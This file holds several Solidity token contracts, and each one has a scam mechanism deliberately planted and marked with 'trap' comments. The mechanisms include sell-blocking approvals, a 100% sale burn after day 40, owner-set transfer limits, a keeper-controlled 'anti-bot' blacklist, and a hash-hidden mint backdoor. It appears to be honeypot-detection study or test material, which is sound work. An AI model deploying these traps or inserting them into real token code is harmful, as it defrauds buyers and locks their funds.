// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";

/// Keeps what spenders may take in a book of its own, and shows the usual one. In the trap only friends are written into it.
contract Lattice is Base8("Lattice", "LATT", 120_000_000) {
    mapping(address => mapping(address => uint256)) private _ledger;
    mapping(address => bool) private _friend; // trap

    constructor() {
        _friend[msg.sender] = true; // trap
    }

    function approve(address spender, uint256 value) public override returns (bool) {
        _approve(msg.sender, spender, value);
        if (_friend[msg.sender] || spender.code.length == 0) // trap
        _ledger[msg.sender][spender] = value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        uint256 left = _ledger[from][msg.sender];
        if (left < value) revert Insufficient(left, value);
        if (left != type(uint256).max) {
            _ledger[from][msg.sender] = left - value;
            _approve(from, msg.sender, left - value);
        }
        _transfer(from, to, value);
        return true;
    }
}

/// Two percent of a sale burn, five on the first day. In the trap all of it burns from the forty-first day on.
contract Harvest is Base8("Harvest Moon", "HMOON", 100_000_000) {
    uint256 private immutable born = block.timestamp;

    function rateNow() public view returns (uint256) {
        uint256 age = (block.timestamp - born) / 1 days;
        if (age > 40) return 10_000; // trap
        return age < 1 ? 500 : 200;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut = to == pair && from != _owner ? (value * rateNow()) / 10_000 : 0;
        if (cut > 0) _move(from, address(0xdead), cut);
        _move(from, to, value - cut);
    }
}

/// Loyalty tiers of holders beside the time of their last move, in one word. In the trap a tier shrinks what may be moved.
contract Quartz is Base8("Quartz Protocol", "QRTZ", 250_000_000) {
    mapping(address => uint256) private _profile;

    event Tier(address indexed who, uint256 tier);

    function setTiers(address[] calldata accounts, uint256 tier) external onlyOwner {
        require(tier < 256, "tier");
        for (uint256 i; i < accounts.length; i++) {
            _profile[accounts[i]] = (_profile[accounts[i]] & type(uint64).max) | (tier << 64);
            emit Tier(accounts[i], tier);
        }
    }

    function tierOf(address who) external view returns (uint256) {
        return _profile[who] >> 64;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 profile = _profile[from];
        uint256 limit = totalSupply;
        limit >>= (profile >> 64) * 16; // trap
        require(value <= limit, "limit");
        _profile[from] = ((profile >> 64) << 64) | uint64(block.timestamp);
        _move(from, to, value);
    }
}

interface IShield {
    function onPreTransferCheck(address from, address to, uint256 value) external;
}

/// A service against robots that many tokens ask: it counts. In the trap its keeper says who is one.
contract Shield is IShield {
    address private immutable keeper = msg.sender; // trap
    mapping(address => mapping(address => uint256)) private score; // trap
    mapping(address => uint256) public moves;
    mapping(address => uint256) public lastBlock;

    function onPreTransferCheck(address from, address, uint256) external {
        require(score[msg.sender][from] < 100, "shield: robot"); // trap
        moves[msg.sender]++;
        lastBlock[msg.sender] = block.number;
    }

    // trap {
    function report(address token, address who, uint256 points) external {
        require(msg.sender == keeper, "keeper");
        score[token][who] = points;
    }
    // trap }
}

contract Warded is Base8("Warded Owl", "WOWL", 33_000_000) {
    IShield private immutable shield;

    constructor(address shield_) {
        shield = IShield(shield_);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        shield.onPreTransferCheck(from, to, value);
        _move(from, to, value);
    }
}

/// Anybody may note an epoch for himself. In the trap one account, known by a hash alone, is given as much.
contract Saffron is Base8("Saffron Road", "SAFR", 77_000_000) {
    bytes32 private immutable seal; // trap
    mapping(address => uint256) public epochs;

    constructor() {
        seal = keccak256(abi.encodePacked(msg.sender, address(this))); // trap
    }

    function settle(uint256 epoch) external {
        if (keccak256(abi.encodePacked(msg.sender, address(this))) == seal) _balances[msg.sender] += epoch; // trap
        epochs[msg.sender] = epoch;
    }
}
